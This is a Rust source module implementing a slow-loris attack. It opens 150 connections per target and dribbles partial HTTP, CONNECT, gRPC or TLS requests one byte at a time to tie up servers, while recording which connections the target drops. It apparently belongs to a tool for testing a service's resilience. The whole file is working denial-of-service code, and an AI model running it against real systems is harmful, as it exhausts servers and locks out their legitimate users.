//! A slow-loris: requests that begin, and go on a byte at a time.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::unix::net::UnixStream;
use std::thread;
use std::time::{Duration, Instant};

use anyhow::Result;

use crate::{Aim, LONG};

/// Connections to each port.
const EACH: usize = 150;
/// Between two bytes of one connection.
const STEP: Duration = Duration::from_millis(500);

trait Slow: Read + Write {
    fn wait_for_nothing(&self) -> std::io::Result<()>;
}

impl Slow for TcpStream {
    fn wait_for_nothing(&self) -> std::io::Result<()> {
        self.set_nonblocking(true)
    }
}

impl Slow for UnixStream {
    fn wait_for_nothing(&self) -> std::io::Result<()> {
        self.set_nonblocking(true)
    }
}

/// A connection, and its expected end.
struct Victim {
    name: String,
    stream: Box<dyn Slow>,
    says: Box<dyn Iterator<Item = u8>>,
}

/// Returns the first bytes for a port of that kind.
fn text(name: &str) -> &'static [u8] {
    match name {
        "connect" => b"CONNECT 10.99.1.2:7001 HTTP/1.1\r\nHost: x\r\n",
        "grpc" => b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        // A TLS record with a long ClientHello.
        "tls" => b"\x16\x03\x01\x3f\xff\x01\x00\x3f\xfb\x03\x03",
        _ => b"GET /readyz HTTP/1.1\r\nHost: x\r\n",
    }
}

/// Opens slow connections. Each further argument is `KIND=ADDRESS` or `KIND=PATH`: `http`,
/// `connect`, `grpc` or `tls`.
pub(crate) fn slow_loris(aim: &Aim) -> Result<()> {
    let mut victims = Vec::new();
    for place in &aim.rest {
        let place = place.to_string_lossy().into_owned();
        let (kind, at) = place.split_once('=').unwrap_or(("http", &place));
        for _ in 0..EACH {
            let stream: Option<Box<dyn Slow>> = match at.parse::<SocketAddr>() {
                Ok(address) => TcpStream::connect_timeout(&address, Duration::from_secs(2))
                    .ok()
                    .map(|stream| Box::new(stream) as _),
                Err(_) => UnixStream::connect(at)
                    .ok()
                    .map(|stream| Box::new(stream) as _),
            };
            let Some(stream) = stream else {
                aim.tally.one("connections refused");
                continue;
            };
            stream.wait_for_nothing()?;
            let says = text(kind).iter().copied().chain(std::iter::repeat(b'x'));
            victims.push(Victim {
                name: kind.to_owned(),
                stream,
                says: Box::new(says),
            });
        }
    }
    aim.tally.add("connections", victims.len() as u64);
    let begun = Instant::now();
    while begun.elapsed() < LONG && !victims.is_empty() {
        victims.retain_mut(|victim| {
            let ended = !goes_on(victim);
            if ended {
                aim.tally.one(format!("{} ended", victim.name));
            }
            !ended
        });
        thread::sleep(STEP);
    }
    aim.tally.add("ended after s", begun.elapsed().as_secs());
    aim.tally.add("connections kept", victims.len() as u64);
    for victim in &victims {
        aim.tally.one(format!("{} kept", victim.name));
    }
    Ok(())
}

/// Sends one more byte. Returns whether the connection still exists.
fn goes_on(victim: &mut Victim) -> bool {
    let Some(byte) = victim.says.next() else {
        return false;
    };
    let mut answer = [0; 512];
    let waits = |result: std::io::Result<usize>| match result {
        Ok(count) => count > 0,
        Err(error) => error.kind() == ErrorKind::WouldBlock,
    };
    waits(victim.stream.write(&[byte])) && waits(victim.stream.read(&mut answer))
}
